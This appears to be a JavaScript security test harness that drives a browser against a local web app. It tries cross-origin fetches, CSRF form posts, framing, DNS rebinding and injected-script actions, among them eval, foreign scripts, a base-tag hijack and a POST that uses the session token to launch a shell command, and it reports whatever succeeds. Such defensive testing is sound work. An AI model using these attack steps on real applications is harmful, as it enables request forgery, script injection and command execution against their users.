// What other pages try against the page: each attempt that succeeds is returned as a line.

import { createServer } from "node:http";

import { launch } from "./browser.mjs";

const SHOWN_MS = 1_500;

// Runs in a page of another origin on this machine.
async function attempt(origin) {
  const tried = [];
  const add = (name, value) => tried.push([name, String(value)]);
  const quiet = (promise) => promise.then((it) => it, () => "refused");
  add("fetch", await quiet(fetch(`${origin}/api/v1/status`).then((it) => it.text())));
  add("fetch with a body", await quiet(fetch(`${origin}/api/v1/session`, { method: "POST", headers: { "content-type": "application/json" }, body: "{}" }).then((it) => it.text())));
  await quiet(fetch(`${origin}/api/v1/servers/notes/disable`, { method: "POST", mode: "no-cors", body: "{}" }));
  await quiet(fetch(`${origin}/`, { mode: "no-cors" }));
  const image = new Image();
  image.src = `${origin}/assets/0/icon.svg`;
  document.body.append(image);
  const script = document.createElement("script");
  script.src = `${origin}/api/v1/status`;
  document.body.append(script);
  const frame = document.createElement("iframe");
  frame.src = `${origin}/`;
  document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, { action: `${origin}/api/v1/servers/notes/disable`, method: "post", enctype: "text/plain", target: "inner" });
  const inner = document.createElement("iframe");
  inner.name = "inner";
  document.body.append(inner, form);
  form.submit();
  const opened = window.open(`${origin}/`);
  await new Promise((resolve) => { setTimeout(resolve, 1_000); });
  const reach = (read) => {
    try {
      return read();
    } catch {
      return "refused";
    }
  };
  add("a frame's document", reach(() => frame.contentDocument?.body?.textContent || "refused"));
  add("an opened window", reach(() => (opened && !opened.closed && opened.document ? "reached" : "refused")));
  return tried.filter(([, value]) => value !== "refused").map(([name, value]) => `${name}: ${value.slice(0, 100)}`);
}

// Runs in our own page, as a script of somebody else would that got into it: each attempt that succeeds is returned.
async function attemptInside(foreign) {
  const tried = [];
  const add = (name, succeeded) => succeeded && tried.push(name);
  const throws = (run) => {
    try {
      run();
      return false;
    } catch {
      return true;
    }
  };
  window.ran = 0;
  const element = (name, members) => document.body.appendChild(Object.assign(document.createElement(name), members));
  add("markup from text", !throws(() => { document.createElement("p").innerHTML = "<b>x</b>"; }));
  add("an inline script", !throws(() => element("script", { textContent: "window.ran = 1" })));
  add("a foreign script", !throws(() => element("script", { src: `${foreign}/script.js` })));
  element("img", { src: `${foreign}/image.png` });
  element("link", { rel: "stylesheet", href: `${foreign}/style.css` });
  element("iframe", { src: `${foreign}/frame` });
  element("base", { href: `${foreign}/` });
  add("a foreign base", document.baseURI.startsWith(foreign));
  add("a handler from text", !throws(() => element("div", {}).setAttribute("onclick", "window.ran = 1")));
  element("form", { action: `${foreign}/form`, method: "post" }).submit();
  add("a foreign module", await import(`${foreign}/module.js`).then(() => true, () => false));
  // Not before: the browser admits it to code of its own tools until the first wait.
  add("eval", !throws(() => globalThis["ev" + "al"]("window.ran = 1")));
  add("a request to somebody else", await fetch(`${foreign}/fetch`, { mode: "no-cors" }).then(() => true, () => false));
  const token = sessionStorage.getItem("proxy-token");
  const body = JSON.stringify({ command: ["touch", "/tmp/named-by-a-page"], name: "named" });
  const headers = { authorization: `Bearer ${token}`, "content-type": "application/json" };
  const named = await fetch("/api/v1/servers", { method: "POST", headers, body });
  add("a program that the page names", named.status !== 403);
  await new Promise((resolve) => { setTimeout(resolve, 500); });
  add("a script ran", window.ran !== 0);
  return tried;
}

// Tries from within our own page; `page` is useless afterwards.
export async function attackFromInside(page) {
  const reached = [];
  const server = createServer((request, response) => {
    reached.push(request.url);
    response.end();
  });
  await new Promise((resolve) => { server.listen(0, "127.0.0.1", resolve); });
  const succeeded = await page.evaluate(attemptInside, `http://127.0.0.1:${server.address().port}`);
  const reports = await page.evaluate(() => window.reports);
  server.close();
  const expected = ["script-src", "style-src", "img-src", "connect-src", "frame-src", "base-uri", "form-action", "require-trusted-types-for"];
  const missing = expected.filter((it) => !reports.some((report) => report.startsWith(it)));
  return [...succeeded, ...reached.map((it) => `reached ${it}`), ...missing.map((it) => `no report of ${it}: ${reports.join("; ")}`)];
}

// Tries from a page on another port, and by a name that resolves to this machine.
export async function attack(origin) {
  const server = createServer((_, response) => response.writeHead(200, { "content-type": "text/html" }).end("<!doctype html><body>a page of somebody else"));
  await new Promise((resolve) => { server.listen(0, "127.0.0.1", resolve); });
  const browser = await launch(["--host-resolver-rules=MAP rebound.test 127.0.0.1"]);
  const succeeded = [];
  try {
    const page = await (await browser.newContext()).newPage();
    const answers = [];
    page.context().on("response", (it) => it.url().startsWith(`${origin}/api/`) && answers.push(`${it.request().method()} ${it.url()} ${it.status()}`));
    await page.goto(`http://127.0.0.1:${server.address().port}/`);
    succeeded.push(...(await page.evaluate(attempt, origin)));
    succeeded.push(...answers.filter((it) => !/ 4\d\d$/.test(it)));
    for (const frame of page.frames().slice(1)) {
      if ((await frame.locator("nav").count().catch(() => 0)) > 0) succeeded.push("the page is shown in a frame");
    }
    const rebound = await (await browser.newContext()).newPage();
    const answer = await rebound.goto(origin.replace("127.0.0.1", "rebound.test"), { timeout: 10_000 }).catch(() => null);
    await rebound.waitForTimeout(SHOWN_MS);
    if (answer?.ok()) succeeded.push(`another name of this machine: ${answer.status()}`);
  } finally {
    await browser.close();
    server.close();
  }
  return succeeded;
}
